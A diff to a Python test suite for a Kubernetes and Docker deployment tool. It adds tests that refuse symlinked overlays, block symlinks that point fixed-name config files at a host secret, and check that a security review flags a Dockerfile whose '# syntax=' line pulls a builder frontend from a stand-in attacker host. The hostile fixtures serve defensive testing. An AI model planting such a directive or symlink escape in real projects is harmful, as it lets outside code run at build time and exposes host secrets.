@@ -237,6 +237,8 @@ def _hub_profiles(folder: Path) -> Any:
         "cpu_guarantee: -1",
         "mem_guarantee: .inf",
         "extra_resource_limits: {nvidia.com/gpu: '-1'}",
+        "cpu_limit: '1e400'",
+        "mem_limit: '" + "1" * 70 + "'",
     ],
 )
 def test_hub_leaves_out_a_bad_profile_and_offers_the_rest(tmp_path: Path, override: str) -> None:
@@ -467,6 +469,27 @@ def test_jenkins_render_writes_only_inside_the_repository(heps: Any, repo: Path,
     assert list((repo / ".git" / "hooks").iterdir()) == []
 
 
+def test_an_overlay_symlinked_to_another_is_refused(heps: Any, repo: Path) -> None:
+    overlays = repo / "k8s-overlays" / "overlays"
+    shutil.rmtree(overlays / "testbed")
+    (overlays / "testbed").symlink_to("production")
+    before = (overlays / "production" / "kustomization.yaml").read_text()
+    one_line(heps(repo, "reconcile", "--dry-run", "--overlay", "testbed"), "testbed", "symlink")
+    with pytest.raises(ConfigError, match="is a symlink to"):
+        edit_overlay(repo, load(repo), "testbed", [], {})
+    assert (overlays / "production" / "kustomization.yaml").read_text() == before
+
+
+@pytest.mark.parametrize("name", ["heps.yaml", ".hadolint.yaml", "app-recipes/app/.dockerignore"])
+def test_files_read_by_name_are_not_symlinks_out(heps: Any, repo: Path, name: str) -> None:
+    """Files read by their fixed name (settings, lint config, .dockerignore) are confined
+    like any named path: a symlink to a host file is never read."""
+    (repo / name).unlink(missing_ok=True)
+    (repo / name).symlink_to(repo.parent / OUTSIDE)
+    line = one_line(heps(repo, "lint"), name.rsplit("/", 1)[-1], "leaves")
+    assert "host secret" not in line
+
+
 def test_promotion_edits_only_the_overlays_own_files(repo: Path) -> None:
     """testbed/kustomization.yaml as a symlink to production's: promoting testbed would
     rewrite production. Refused before anything is read or written."""
@@ -503,7 +526,8 @@ def test_review_flags_what_a_security_reviewer_must_see(heps: Any, repo: Path) -
         repo,
         "app",
         simple_recipe("app", version="1.0.1", build={"context": "../.."}),
-        Dockerfile="FROM busybox:1.36\nADD https://example.org/x.tgz /x\n",
+        Dockerfile="# syntax=evil.example.org/frontend\nFROM busybox:1.36\n"
+        "ADD https://example.org/x.tgz /x\n",
     )
     (repo / "app-recipes" / "app" / "inside-link").symlink_to("Dockerfile")
     result = heps(repo, "review", "--base", "HEAD")
@@ -515,6 +539,7 @@ def test_review_flags_what_a_security_reviewer_must_see(heps: Any, repo: Path) -
         "ADD https://example.org/x.tgz downloads at build time",
         "build.context: the whole repository is outside the recipe's folder",
         "symlinks app-recipes/app/inside-link",
+        "a '# syntax=' directive names a builder frontend image",
     ):
         assert fragment in text, text
 
